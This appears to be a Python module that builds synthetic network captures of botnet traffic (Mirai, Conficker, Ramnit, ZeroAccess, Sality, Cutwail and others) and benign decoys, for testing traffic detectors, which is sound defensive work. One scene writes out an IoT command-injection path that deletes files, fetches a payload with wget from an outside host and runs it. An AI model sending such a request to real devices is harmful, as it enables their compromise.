"""Generated scenes: attack traffic of each kind, and conduct that looks like it and is not.

A scene is a function (random, capture) -> {detector: [hosts]}: it fills the capture and says which hosts a detector
should name. Hosts of ours are 10.0.0.0/8. The `tune` and `judge` variants differ in seed and in parameters."""
import base64
import datetime
import random as randomness

import malware
from capture import Capture

START = datetime.datetime(2018, 12, 5, 1, 0, tzinfo=datetime.timezone.utc).timestamp()
DAY = datetime.date(2018, 12, 5)
RESOLVER = "10.255.0.53"
WORDS = ("news mail shop cloud photo video game music store bank travel health sport school market forum travel wiki "
         "image static assets login secure update media social book paper radio light water green city home garden "
         "cook recipe train flight hotel ticket movie kids toys pets auto parts tools craft design print").split()
TLDS = ["com", "net", "org", "vn", "com.vn", "io", "info"]
SCENES = {}


def scene(function):
    SCENES[function.__name__.replace("_", "-")] = function
    return function


def outside(random):
    while True:
        a = random.randrange(1, 223)
        if a not in (10, 100, 127, 169, 172, 192, 198, 203):
            return f"{a}.{random.randrange(256)}.{random.randrange(256)}.{random.randrange(1, 255)}"


def hosts(random, count, net=1):
    return [f"10.{net}.{n // 200}.{n % 200 + 10}" for n in random.sample(range(4000), count)]


def port(random):
    return random.randrange(1024, 65535)


def site(random):
    return f"{random.choice(WORDS)}{random.choice(WORDS + ['', '', ''])}.{random.choice(TLDS)}"


def scan(random, capture, host, ports, targets, seq, hours=1.0, answered=0.02):
    for n in range(targets):
        to, at = outside(random), START + random.random() * 3600 * hours
        dport, first = random.choice(ports), None
        first = seq(to)
        if random.random() < answered:
            capture.talk(at, host, port(random), to, dport, [(False, b"\xff\xfd\x1f"), (True, b"\xff\xfb\x1f")], seq=first)
        else:
            capture.syn(at, host, port(random), to, dport, first)


def number(address):
    a, b, c, d = (int(x) for x in address.split("."))
    return a << 24 | b << 16 | c << 8 | d


@scene
def mirai_scan(random, capture):
    bots = hosts(random, 6)
    for bot in bots:
        scan(random, capture, bot, [23] * 9 + [2323], random.randrange(300, 900), number)
    return {"mirai-syn": bots, "iot-telnet-scan": bots}


@scene
def telnet_scan_of_another_bot(random, capture):
    bots = hosts(random, 6)
    for bot in bots:
        scan(random, capture, bot, [23, 2323, 8080, 9527], random.randrange(300, 900), lambda _: random.getrandbits(32))
    return {"iot-telnet-scan": bots}


@scene
def smb_worm(random, capture):
    bots = hosts(random, 6)
    for bot in bots:
        scan(random, capture, bot, [445], random.randrange(200, 2000), lambda _: random.getrandbits(32), answered=0.01)
    return {"smb-scan": bots}


@scene
def port_sweep(random, capture):
    bots = hosts(random, 5)
    for bot in bots:
        scan(random, capture, bot, [random.choice([3389, 22, 6379, 1433])], random.randrange(300, 900),
             lambda _: random.getrandbits(32))
    return {"horizontal-scan": bots}


@scene
def conficker_names(random, capture):
    bots = hosts(random, 8)
    for n, bot in enumerate(bots):
        names = malware.conficker_names(DAY, "ab"[n % 2])
        for name in random.sample(names, 60):
            capture.dns(START + random.random() * 7200, bot, RESOLVER, name, code=3)
    return {"generated-name-of-the-day": bots}


@scene
def ramnit_names(random, capture):
    bots = hosts(random, 6)
    for bot in bots:
        names = malware.ramnit_names(random.choice([0x79159C10, 0xEF214BBF]), 200)
        for name in names[:random.randrange(20, 200)]:
            capture.dns(START + random.random() * 7200, bot, RESOLVER, name, code=3)
    return {"generated-name-of-the-day": bots}


@scene
def conficker_http(random, capture):
    bots = hosts(random, 5)
    for bot in bots:
        to = outside(random)
        capture.talk(START + random.random() * 3600, bot, port(random), to, 80,
                     [(True, malware.http(to, f"/search?q={random.randrange(300)}")), (False, b"HTTP/1.1 200 OK\r\n\r\n")])
        scan(random, capture, bot, [445], 300, lambda _: random.getrandbits(32), answered=0)
    return {"conficker-http": bots, "smb-scan": bots}


@scene
def ramnit_session(random, capture):
    bots = hosts(random, 6)
    for bot in bots:
        register = malware.ramnit_frame(0xE2, b"\x00" + (32).to_bytes(4, "little") + random.randbytes(32))
        capture.talk(START + random.random() * 3600, bot, port(random), outside(random), random.choice([443, 443, 8080]),
                     [(True, register), (False, malware.ramnit_frame(0x01)),
                      (True, malware.ramnit_frame(0x23)), (False, malware.ramnit_frame(0x23, b"\x01\x02\0\0\0"))])
    return {"ramnit-c2": bots}


@scene
def sality_requests(random, capture):
    bots = hosts(random, 5)
    for bot in bots:
        for _ in range(4):
            query = f"{random.getrandbits(24):06x}={random.getrandbits(20):05x}"
            capture.talk(START + random.random() * 3600, bot, port(random), outside(random), 80,
                         [(True, malware.http(site(random), f"/images/logos.gif?{query}", agent="KUKU v5.06exp =12345678")),
                          (False, b"HTTP/1.1 404 Not Found\r\n\r\n")])
    return {"sality-http": bots}


@scene
def pushdo_decoys(random, capture):
    bots = hosts(random, 5)
    for bot in bots:
        for _ in range(5):
            tail = "".join(random.choice("abcdefghijklmnopqrstuvwxyzABCDEF0123456789") for _ in range(30))
            capture.talk(START + random.random() * 3600, bot, port(random), outside(random), 80,
                         [(True, malware.http(site(random), f"/?ptrxcz_{tail}", method="POST", body=random.randbytes(200))),
                          (False, b"HTTP/1.1 200 OK\r\n\r\n")])
    return {"pushdo-http": bots}


@scene
def spam_run(random, capture):
    bots = hosts(random, 6)
    for bot in bots:
        for _ in range(random.randrange(400, 900)):
            capture.talk(START + random.random() * 3000, bot, port(random), outside(random), 25,
                         [(False, b"220 mx ESMTP\r\n"), (True, b"EHLO home\r\n"), (False, b"250 ok\r\n")])
    return {"spam-burst": bots}


@scene
def zeroaccess_peers(random, capture):
    bots = hosts(random, 6)
    for bot in bots:
        session = random.getrandbits(32)
        for _ in range(200):
            peer, at = outside(random), START + random.random() * 3600
            ports = random.choice([16464, 16465, 16470, 16471])
            local = port(random)
            capture.udp(at, bot, local, peer, ports, malware.zeroaccess(b"getL", session))
            if random.random() < 0.3:
                body = (1).to_bytes(4, "little") + random.randbytes(8)
                capture.udp(at + 0.1, peer, ports, bot, local, malware.zeroaccess(b"retL", session, body))
    return {"zeroaccess-p2p": bots}


@scene
def beacons(random, capture):
    bots = hosts(random, 8)
    for bot in bots:
        to, period = outside(random), random.choice([60, 90, 300])
        jitter = random.choice([0.02, 0.1, 0.2])
        at = START
        while at < START + 6 * 3600:
            capture.talk(at, bot, port(random), to, 443, [(True, b"\x16\x03\x01\x00\x05hello"), (False, b"\x16\x03\x03\x00\x02ok")])
            at += period * (1 + random.uniform(-jitter, jitter))
    return {"beacon": bots}


@scene
def dns_tunnel(random, capture):
    bots = hosts(random, 5)
    for bot in bots:
        zone = f"t{random.randrange(99)}.{random.choice(WORDS)}-{random.choice(WORDS)}.net"
        for n in range(random.randrange(600, 1500)):
            data = base64.b32encode(random.randbytes(random.randrange(25, 75))).decode().lower().rstrip("=")
            labels = ".".join(data[i:i + 60] for i in range(0, len(data), 60))
            capture.dns(START + random.random() * 1800, bot, RESOLVER, f"{labels}.{zone}", kind=random.choice([16, 10, 5]))
    return {"dns-tunnel": bots}


@scene
def unknown_generator(random, capture):
    """Names of a generator nobody published: random letters, most of them not registered."""
    bots = hosts(random, 6)
    for bot in bots:
        tld = random.choice(["com", "net", "ru", "biz"])
        for _ in range(150):
            name = "".join(random.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(random.randrange(11, 20)))
            capture.dns(START + random.random() * 3000, bot, RESOLVER, f"{name}.{tld}", code=3)
    return {"nxdomain-burst": bots, "generated-names": bots}


@scene
def mirai_c2_session(random, capture):
    bots = hosts(random, 5)
    for bot in bots:
        capture.talk(START + random.random() * 600, bot, port(random), outside(random), 23,
                     [(True, b"\0\0\0\x01\x05tel.x")] + [(True, b"\0\0"), (False, b"\0\0")] * 20, length=1200)
    return {"mirai-c2": bots}


@scene
def iot_exploit(random, capture):
    bots = hosts(random, 5)
    for bot in bots:
        for _ in range(30):
            to = outside(random)
            path = f"/shell?cd+/tmp;rm+-rf+*;wget+http://{outside(random)}/jaws;sh+/tmp/jaws"
            capture.talk(START + random.random() * 3000, bot, port(random), to, random.choice([80, 8080]),
                         [(True, malware.http(to, path, agent="Hello, world")), (False, b"HTTP/1.1 404 Not Found\r\n\r\n")])
    return {"iot-exploit-probe": bots}


@scene
def zeroaccess_check_in(random, capture):
    bots = hosts(random, 5)
    for bot in bots:
        at, to = START + random.random() * 1800, outside(random)
        capture.udp(at, bot, port(random), to, 53, random.randbytes(8) + b"\x3f\x1c" + random.randbytes(10))
        capture.udp(at + 5, bot, port(random), to, 123, b"GN" + random.randbytes(18))
    return {"zeroaccess-install": bots}


@scene
def peer_to_peer_of_one_port(random, capture):
    """Sality's kind: one high port, many peers, small messages both ways, again and again."""
    bots = hosts(random, 5)
    for bot in bots:
        local, peers = random.randrange(2000, 60000), [(outside(random), port(random)) for _ in range(300)]
        for round_ in range(2):
            for to, there in peers:
                at, size = START + round_ * 1700 + random.random() * 1500, random.randrange(20, 60)
                capture.udp(at, bot, local, to, there, random.randbytes(size))
                if random.random() < 0.6:
                    capture.udp(at + 0.2, to, there, bot, local, random.randbytes(size))
    return {"udp-fan-out": bots}


@scene
def cutwail_greeting(random, capture):
    bots = hosts(random, 5)
    for bot in bots:
        for _ in range(40):
            capture.talk(START + random.random() * 3000, bot, port(random), outside(random), 25,
                         [(True, b"EHLO ylmf-pc\r\n"), (False, b"220 mx ESMTP\r\n250 hello\r\n"), (True, b"AUTH LOGIN\r\n")])
    return {"cutwail-smtp": bots}


@scene
def cutwail_tries_mail(random, capture):
    bots = hosts(random, 5)
    servers = ["smtp.live.com", "smtp.mail.yahoo.com", "smtp.sbcglobal.yahoo.com", "smtp.directcon.net", "mail.airmail.net",
               "smtp.compuserve.com"]
    for bot in bots:
        for n, server in enumerate(servers):
            at, to = START + 60 * n, outside(random)
            capture.dns(at, bot, RESOLVER, server, address=to)
            capture.talk(at + 0.3, bot, port(random), to, 25, [(False, b"220 mail ESMTP\r\n")])
    return {"cutwail-mail-test": bots}


# Conduct that looks like it and is not: nobody is to be named.

@scene
def benign_browsing(random, capture):
    for host in hosts(random, 60):
        for _ in range(random.randrange(40, 200)):
            at, name, to = START + random.random() * 8 * 3600, site(random), outside(random)
            capture.dns(at, host, RESOLVER, random.choice(["www.", "", "cdn.", "api.", "static."]) + name, address=to)
            capture.talk(at + 0.1, host, port(random), to, random.choice([443, 443, 80]),
                         [(True, malware.http(name, f"/{random.choice(WORDS)}.gif?v={random.randrange(9999)}"))
                          if random.random() < 0.3 else (True, b"\x16\x03\x01\x00\x40" + random.randbytes(60)),
                          (False, random.randbytes(200))], length=random.random() * 20)
    return {}


@scene
def benign_mail_server(random, capture):
    for host in hosts(random, 3):
        for _ in range(random.randrange(200, 500)):
            capture.talk(START + random.random() * 8 * 3600, outside(random), port(random), host, 25,
                         [(False, b"220 mail ESMTP\r\n"), (True, b"EHLO mx.example.org\r\n")])
        for _ in range(random.randrange(300, 700)):
            to, at, name = outside(random), START + random.random() * 8 * 3600, site(random)
            capture.dns(at, host, RESOLVER, name, address=to, kind=15)
            for list_ in ("zen.spamhaus.example", "bl.spamcop.example"):
                reverse = ".".join(reversed(outside(random).split(".")))
                capture.dns(at, host, RESOLVER, f"{reverse}.{list_}", code=3)
            capture.talk(at + 1, host, port(random), to, 25, [(False, b"220 mx ESMTP\r\n"), (True, b"EHLO mail.moit.example\r\n")])
    return {}


@scene
def benign_polls(random, capture):
    """NTP, update checks and monitoring: as regular as any beacon, to servers that many use."""
    servers, updates = [outside(random) for _ in range(4)], outside(random)
    for host in hosts(random, 60):
        phase = random.random() * 64
        for n in range(6 * 3600 // 64):
            capture.udp(START + phase + 64 * n, host, 123, servers[number(host) % 4], 123, b"\x23" + bytes(47))
        for n in range(6 * 12):
            capture.talk(START + phase + 300 * n, host, port(random), updates, 443, [(True, b"\x16\x03\x01\x00\x05hello")])
    return {}


@scene
def benign_bittorrent(random, capture):
    for host in hosts(random, 8):
        local = port(random)
        for _ in range(1500):
            peer, at = outside(random), START + random.random() * 3600
            query = b"d1:ad2:id20:" + random.randbytes(20) + b"e1:q4:ping1:t2:aa1:y1:qe"
            capture.udp(at, host, local, peer, port(random), query)
        for _ in range(400):
            peer, at = outside(random), START + random.random() * 3600
            if random.random() < 0.6:
                capture.syn(at, host, port(random), peer, port(random), random.getrandbits(32))
            else:
                capture.talk(at, host, port(random), peer, port(random),
                             [(True, b"\x13BitTorrent protocol" + bytes(8) + random.randbytes(40)), (False, random.randbytes(68))])
    return {}


@scene
def benign_resolver(random, capture):
    """A busy resolver: every name of a town, many of them mistyped, reverse look-ups, safe-browsing hashes."""
    for host in hosts(random, 3, net=2):
        for _ in range(6000):
            at, kind = START + random.random() * 3600, random.random()
            if kind < 0.7:
                capture.dns(at, host, "10.255.0.54", random.choice(["www.", "", "m."]) + site(random), address=outside(random))
            elif kind < 0.85:
                capture.dns(at, host, "10.255.0.54", ".".join(reversed(outside(random).split("."))) + ".in-addr.arpa",
                            code=random.choice([0, 3]), kind=12)
            elif kind < 0.93:
                capture.dns(at, host, "10.255.0.54", random.choice(WORDS) + random.choice(WORDS) + ".con", code=3)
            else:
                capture.dns(at, host, "10.255.0.54", f"e{random.randrange(9999)}.dsc.akamai-edge.example", address=outside(random))
    return {}


@scene
def benign_antivirus_lookups(random, capture):
    """Hashes in names, answered: reputation services look like tunnels and are none."""
    for host in hosts(random, 10):
        for _ in range(300):
            name = f"{random.getrandbits(128):032x}.avqs.mcafee.example"
            capture.dns(START + random.random() * 4 * 3600, host, RESOLVER, name, address="127.0.4.8")
    return {}


@scene
def benign_filler(random, capture):
    """Downloads full of every byte there is: payload checks must not see anything in them."""
    for host in hosts(random, 10):
        to = outside(random)
        for n in range(150):
            capture.talk(START + random.random() * 3600, host, port(random), to, 443,
                         [(True, random.randbytes(random.randrange(1, 400))), (False, random.randbytes(400))])
            capture.udp(START + random.random() * 3600, host, port(random), outside(random), random.choice([16464, 16470, 443]),
                        random.randbytes(random.randrange(1, 300)))
    return {}


def make(name, split, path):
    """Writes the scene's capture; returns what should be said of whom."""
    random = randomness.Random(f"{name} {split}")
    capture = Capture()
    expected = SCENES[name](random, capture)
    capture.write(path)
    return expected
